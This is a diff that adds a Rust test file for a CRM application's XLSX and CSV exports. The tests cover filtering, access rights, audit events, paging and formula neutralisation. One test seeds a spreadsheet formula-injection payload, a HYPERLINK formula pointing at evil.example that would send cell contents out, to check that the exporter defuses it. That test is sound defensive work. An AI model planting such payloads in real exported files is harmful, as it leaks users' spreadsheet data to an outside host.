@@ -1,0 +1,434 @@
+//! Exports on both databases, read back as a spreadsheet program would (calamine for XLSX, the
+//! csv crate for CSV) and compared row by row with the list the same user sees with the same
+//! search and filter; rights, formula neutralisation, audit events, paging and progress.
+
+use std::io::Cursor as IoCursor;
+use std::sync::Mutex;
+
+use calamine::{Data, Reader, Xlsx};
+use orbita_app::exports::{self, ExportFailure, ExportSpec, Format};
+use orbita_app::reports::SummaryParams;
+use orbita_app::{Access, AppError, RequestContext, admin, companies, deals, setup, users};
+use orbita_domain::audit::AuditAction;
+use orbita_domain::company::{Company, CompanyInput};
+use orbita_domain::deal::DealInput;
+use orbita_domain::org::Locale;
+use orbita_domain::{CompanyId, UserId, now};
+use orbita_export::neutralise;
+use orbita_storage::audit::AuditFilter;
+use orbita_storage::companies::{CompanyFilter, CompanySort};
+use orbita_storage::deals::{DealFilter, DealSort};
+use orbita_storage::{Db, bulk};
+use orbita_testkit::on_both;
+
+struct Team {
+    admin: Access,
+    m1: Access,
+    m2: Access,
+    reader: Access,
+}
+
+async fn person(db: &Db, email: &str, role: &str) -> UserId {
+    users::create_user(db, &RequestContext::system(), email, email, role, "a good long password")
+        .await
+        .expect("user")
+}
+
+async fn team(db: &Db) -> Team {
+    setup::bootstrap(db).await.expect("bootstrap");
+    let admin = person(db, "admin@x.ru", "administrator").await;
+    let m1 = person(db, "m1@x.ru", "manager").await;
+    let m2 = person(db, "m2@x.ru", "manager").await;
+    let reader = person(db, "reader@x.ru", "read_only").await;
+    let load = |id| async move { Access::load(db, id, None).await.expect("access") };
+    Team { admin: load(admin).await, m1: load(m1).await, m2: load(m2).await, reader: load(reader).await }
+}
+
+/// Headers as `[key]`, so a test sees which key each column asked for.
+fn label(key: &str) -> String {
+    format!("[{key}]")
+}
+
+fn no_progress(_: u64) {}
+
+fn spec(format: Format) -> ExportSpec<'static> {
+    ExportSpec { format, locale: Locale::Ru, label: &label, progress: &no_progress, tempdir: None }
+}
+
+fn company(name: &str, region: &str, phones: &str) -> CompanyInput {
+    CompanyInput { name: name.into(), region: region.into(), phones: phones.into(), ..Default::default() }
+}
+
+fn read_xlsx(bytes: Vec<u8>) -> Vec<Vec<Data>> {
+    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(IoCursor::new(bytes)).expect("valid xlsx");
+    let names = workbook.sheet_names();
+    let range = workbook.worksheet_range(&names[0]).expect("sheet");
+    range.rows().map(<[Data]>::to_vec).collect()
+}
+
+fn read_csv(bytes: &[u8]) -> Vec<Vec<String>> {
+    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a UTF-8 BOM");
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .delimiter(b';')
+        .from_reader(body)
+        .records()
+        .map(|r| r.expect("valid csv").iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// A company's text columns as the export writes them (neutralised), in column order.
+fn expected_text(c: &Company, owner: &str) -> Vec<String> {
+    let f = &c.fields;
+    let opt = |v: Option<&str>| v.unwrap_or_default().to_owned();
+    let join = |items: Vec<&str>| items.join(", ");
+    [
+        f.name.clone(),
+        opt(f.inn.as_ref().map(|v| v.as_str())),
+        opt(f.kpp.as_ref().map(|v| v.as_str())),
+        opt(f.ogrn.as_ref().map(|v| v.as_str())),
+        opt(f.industry.as_deref()),
+        opt(f.region.as_deref()),
+        join(f.phones.iter().map(|p| p.as_str()).collect()),
+        join(f.emails.iter().map(|e| e.as_str()).collect()),
+        owner.to_owned(),
+    ]
+    .into_iter()
+    .map(|v| neutralise(&v).into_owned())
+    .collect()
+}
+
+fn xlsx_text(cell: &Data) -> String {
+    match cell {
+        Data::Empty => String::new(),
+        Data::String(s) => s.clone(),
+        other => panic!("text expected, got {other:?}"),
+    }
+}
+
+async fn seed(db: &Db, team: &Team) {
+    let inputs = [
+        (
+            &team.m1,
+            CompanyInput {
+                inn: "7707083893".into(),
+                kpp: "773601001".into(),
+                ..company("ООО «Ромашка»", "Москва", "+7 916 123-45-67")
+            },
+        ),
+        (&team.m1, company("Ромашка Север", "Москва", "")),
+        (&team.m1, company("Ромашка Юг", "Краснодар", "")),
+        (&team.m1, company("Лютик", "Москва", "")),
+        (&team.m2, company("Ромашка чужая", "Москва", "")),
+    ];
+    for (who, input) in inputs {
+        companies::create(db, who, &input, None).await.expect("company");
+    }
+}
+
+#[tokio::test]
+async fn an_export_holds_exactly_the_filtered_list_the_user_sees_in_both_formats() {
+    on_both(|t| async move {
+        let team = team(&t.db).await;
+        seed(&t.db, &team).await;
+        let filter =
+            CompanyFilter {
+                q: Some("ромашка".into()), region: Some("Москва".into()), ..Default::default()
+            };
+        for (who, expected_rows) in [(&team.m1, 2), (&team.admin, 3)] {
+            let listed = companies::list(&t.db, who, &filter, CompanySort::Name, true, None, 100)
+                .await
+                .expect("list")
+                .items;
+            assert_eq!(listed.len(), expected_rows, "{}: the fixture", t.name);
+            let owner = |c: &Company| if c.owner_id == team.m1.user_id() { "m1@x.ru" } else { "m2@x.ru" };
+            let expected: Vec<Vec<String>> = listed.iter().map(|c| expected_text(c, owner(c))).collect();
+
+            let xlsx = exports::companies(
+                &t.db,
+                who,
+                &filter,
+                CompanySort::Name,
+                true,
+                &spec(Format::Xlsx),
+                Vec::new(),
+            )
+            .await
+            .expect("xlsx");
+            assert_eq!(xlsx.rows, expected_rows as u64);
+            let sheet = read_xlsx(xlsx.out);
+            assert_eq!(xlsx_text(&sheet[0][0]), "[field-name]");
+            assert_eq!(xlsx_text(&sheet[0][9]), "[field-created]");
+            let got: Vec<Vec<String>> =
+                sheet[1..].iter().map(|r| r[..9].iter().map(xlsx_text).collect()).collect();
+            assert_eq!(got, expected, "{}: XLSX rows = list rows", t.name);
+            assert!(
+                sheet[1..].iter().all(|r| matches!(r[9], Data::DateTime(_))),
+                "{}: created is a date",
+                t.name
+            );
+
+            let csv = exports::companies(
+                &t.db,
+                who,
+                &filter,
+                CompanySort::Name,
+                true,
+                &spec(Format::Csv),
+                Vec::new(),
+            )
+            .await
+            .expect("csv");
+            let rows = read_csv(&csv.out);
+            assert_eq!(rows[0][1], "[field-inn]");
+            let got: Vec<Vec<String>> = rows[1..].iter().map(|r| r[..9].to_vec()).collect();
+            assert_eq!(got, expected, "{}: CSV rows = list rows", t.name);
+            let created =
+                listed[0].created_at.with_timezone(&chrono_tz::Europe::Moscow).format("%Y-%m-%d %H:%M:%S");
+            assert_eq!(rows[1][9], created.to_string(), "{}: Moscow wall-clock time", t.name);
+        }
+        t
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn a_managers_deal_export_holds_only_their_deals_and_typed_amounts() {
+    on_both(|t| async move {
+        let team = team(&t.db).await;
+        let (_, stages) = deals::pipelines_and_stages(&t.db).await.expect("stages");
+        for (who, title, amount) in [
+            (&team.m1, "Окна ПВХ", "1 500 000,10"),
+            (&team.m1, "Окна деревянные", "0,05"),
+            (&team.m2, "Окна чужие", "7"),
+        ] {
+            let input = DealInput { title: title.into(), amount: amount.into(), ..Default::default() };
+            let deal = deals::create(&t.db, who, &input, None, None, None).await.expect("deal");
+            deals::move_stage(&t.db, who, deal.id, stages[2].id, "", None).await.expect("move");
+        }
+        let filter = DealFilter { q: Some("окна".into()), ..Default::default() };
+        let out =
+            exports::deals(&t.db, &team.m1, &filter, DealSort::Amount, true, &spec(Format::Csv), Vec::new())
+                .await
+                .expect("export");
+        let rows = read_csv(&out.out);
+        let got: Vec<_> = rows[1..]
+            .iter()
+            .map(|r| (r[0].as_str(), r[2].as_str(), r[4].as_str(), r[5].as_str(), r[7].as_str()))
+            .collect();
+        assert_eq!(
+            got,
+            [
+                ("Окна ПВХ", "Коммерческое предложение", "1500000,10", "40%", "m1@x.ru"),
+                ("Окна деревянные", "Коммерческое предложение", "0,05", "40%", "m1@x.ru"),
+            ],
+            "{}: only m1's deals, amounts as numbers",
+            t.name
+        );
+        let xlsx =
+            exports::deals(&t.db, &team.m1, &filter, DealSort::Amount, true, &spec(Format::Xlsx), Vec::new())
+                .await
+                .expect("export");
+        let sheet = read_xlsx(xlsx.out);
+        assert_eq!(sheet[1][4], Data::Float(1_500_000.10), "{}: money is a number in XLSX", t.name);
+        assert_eq!(sheet[1][3], Data::String("[deal-status-open]".into()));
+        t
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn formula_like_names_are_neutralised_in_both_formats() {
+    on_both(|t| async move {
+        let team = team(&t.db).await;
+        let names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+7 916 000-00-00", "-1", "@cmd"];
+        for name in names {
+            companies::create(&t.db, &team.m1, &company(name, "", ""), None).await.expect("company");
+        }
+        let filter = CompanyFilter::default();
+        let xlsx = exports::companies(
+            &t.db,
+            &team.m1,
+            &filter,
+            CompanySort::CreatedAt,
+            false,
+            &spec(Format::Xlsx),
+            Vec::new(),
+        )
+        .await
+        .expect("xlsx");
+        let csv = exports::companies(
+            &t.db,
+            &team.m1,
+            &filter,
+            CompanySort::CreatedAt,
+            false,
+            &spec(Format::Csv),
+            Vec::new(),
+        )
+        .await
+        .expect("csv");
+        let in_xlsx: Vec<String> = read_xlsx(xlsx.out)[1..].iter().map(|r| xlsx_text(&r[0])).collect();
+        let in_csv: Vec<String> = read_csv(&csv.out)[1..].iter().map(|r| r[0].clone()).collect();
+        let expected: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
+        assert_eq!(in_xlsx, expected, "{}: XLSX", t.name);
+        assert_eq!(in_csv, expected, "{}: CSV", t.name);
+        t
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn exports_are_audited_and_refused_without_the_export_right() {
+    on_both(|t| async move {
+        let team = team(&t.db).await;
+        seed(&t.db, &team).await;
+        let filter = CompanyFilter { q: Some("ромашка".into()), ..Default::default() };
+        let done = exports::companies(
+            &t.db,
+            &team.m1,
+            &filter,
+            CompanySort::Name,
+            false,
+            &spec(Format::Csv),
+            Vec::new(),
+        )
+        .await
+        .expect("export");
+        let audit = AuditFilter {
+            entity: Some("companies".into()),
+            action: Some(AuditAction::Export),
+            ..Default::default()
+        };
+        let events = admin::audit_log(&t.db, &team.admin, &audit, None, 10).await.expect("audit").items;
+        assert_eq!(events.len(), 1, "{}", t.name);
+        assert_eq!(events[0].actor_id, Some(team.m1.user_id()));
+        let change =
+            |field: &str| events[0].changes.iter().find(|c| c.field == field).and_then(|c| c.after.clone());
+        assert_eq!(change("filter").as_deref(), Some("q=ромашка; sort=name"), "{}", t.name);
+        assert_eq!(change("rows"), Some(done.rows.to_string()));
+        assert_eq!(change("format").as_deref(), Some("csv"));
+
+        let refused = exports::companies(
+            &t.db,
+            &team.reader,
+            &filter,
+            CompanySort::Name,
+            false,
+            &spec(Format::Csv),
+            Vec::new(),
+        )
+        .await;
+        assert!(
+            matches!(refused, Err(ExportFailure::App(AppError::Forbidden))),
+            "{}: read-only: {refused:?}",
+            t.name
+        );
+        let refused = exports::deals(
+            &t.db,
+            &team.reader,
+            &DealFilter::default(),
+            DealSort::CreatedAt,
+            false,
+            &spec(Format::Xlsx),
+            Vec::new(),
+        )
+        .await;
+        assert!(matches!(refused, Err(ExportFailure::App(AppError::Forbidden))), "{}", t.name);
+        let audit_refused =
+            exports::audit_log(&t.db, &team.m2, &AuditFilter::default(), &spec(Format::Csv), Vec::new())
+                .await;
+        assert!(matches!(audit_refused, Err(ExportFailure::App(AppError::Forbidden))));
+        let events = admin::audit_log(
+            &t.db,
+            &team.admin,
+            &AuditFilter { action: Some(AuditAction::Export), ..Default::default() },
+            None,
+            10,
+        )
+        .await
+        .expect("audit")
+        .items;
+        assert_eq!(events.len(), 1, "{}: refused exports leave no event", t.name);
+
+        let log = exports::audit_log(&t.db, &team.admin, &audit, &spec(Format::Csv), Vec::new())
+            .await
+            .expect("audit export");
+        let rows = read_csv(&log.out);
+        assert_eq!(
+            (rows[1][1].as_str(), rows[1][3].as_str(), rows[1][5].as_str()),
+            ("m1@x.ru", "companies", "[audit-action-export]")
+        );
+        assert!(rows[1][6].starts_with("filter: — → q=ромашка"), "{}: {}", t.name, rows[1][6]);
+
+        let params = SummaryParams { from: chrono::NaiveDate::MIN, to: chrono::NaiveDate::MIN, group: None };
+        let summary = exports::summary_report(&t.db, &team.m1, &params, &spec(Format::Csv), Vec::new()).await;
+        assert!(
+            matches!(summary, Err(ExportFailure::App(AppError::Forbidden))),
+            "{}: managers have no report export",
+            t.name
+        );
+        let input = DealInput { title: "Сделка".into(), ..Default::default() };
+        deals::create(&t.db, &team.m1, &input, None, None, None).await.expect("deal");
+        let today = chrono::Utc::now().date_naive();
+        let params = SummaryParams {
+            from: today - chrono::Duration::days(1),
+            to: today + chrono::Duration::days(2),
+            group: None,
+        };
+        let summary = exports::summary_report(&t.db, &team.admin, &params, &spec(Format::Xlsx), Vec::new())
+            .await
+            .expect("summary");
+        let sheet = read_xlsx(summary.out);
+        assert_eq!(sheet.len() as u64, summary.rows + 1);
+        assert_eq!(sheet.last().map(|r| xlsx_text(&r[0])).as_deref(), Some("[report-total]"));
+        assert_eq!(sheet.last().map(|r| r[1].clone()), Some(Data::Float(1.0)), "{}: deals created", t.name);
+        t
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn a_large_list_is_paged_through_and_progress_is_reported() {
+    on_both(|t| async move {
+        let team = team(&t.db).await;
+        let first = bulk::next_id(&t.db, "companies").await.expect("id");
+        let rows = (0..10_050)
+            .map(|i| {
+                let fields = CompanyInput { name: format!("Компания {i:05}"), ..Default::default() }
+                    .validate()
+                    .expect("valid");
+                orbita_storage::companies::bulk_row(CompanyId(first + i), &fields, team.m1.user_id(), now())
+            })
+            .collect();
+        let mut tx = t.db.begin().await.expect("begin");
+        bulk::insert_rows(&mut tx, "companies", rows).await.expect("bulk");
+        bulk::sync_id_sequence(&mut tx, "companies").await.expect("sequence");
+        tx.commit().await.expect("commit");
+        let seen = Mutex::new(Vec::new());
+        let progress = |n: u64| seen.lock().expect("lock").push(n);
+        let spec = ExportSpec { progress: &progress, ..spec(Format::Csv) };
+        let filter = CompanyFilter::default();
+        let future =
+            exports::companies(&t.db, &team.m1, &filter, CompanySort::Name, false, &spec, Vec::new());
+        fn assert_send<T: Send>(value: T) -> T {
+            value
+        }
+        let done = assert_send(future).await.expect("export");
+        assert_eq!(done.rows, 10_050, "{}", t.name);
+        assert_eq!(*seen.lock().expect("lock"), [10_000]);
+        let rows = read_csv(&done.out);
+        assert_eq!(
+            (rows[1][0].as_str(), rows[10_050][0].as_str()),
+            ("Компания 00000", "Компания 10049"),
+            "{}",
+            t.name
+        );
+        let none = exports::companies(&t.db, &team.m2, &filter, CompanySort::Name, false, &spec, Vec::new())
+            .await
+            .expect("empty");
+        assert_eq!(none.rows, 0, "{}: m2 owns none of them", t.name);
+        t
+    })
+    .await;
+}
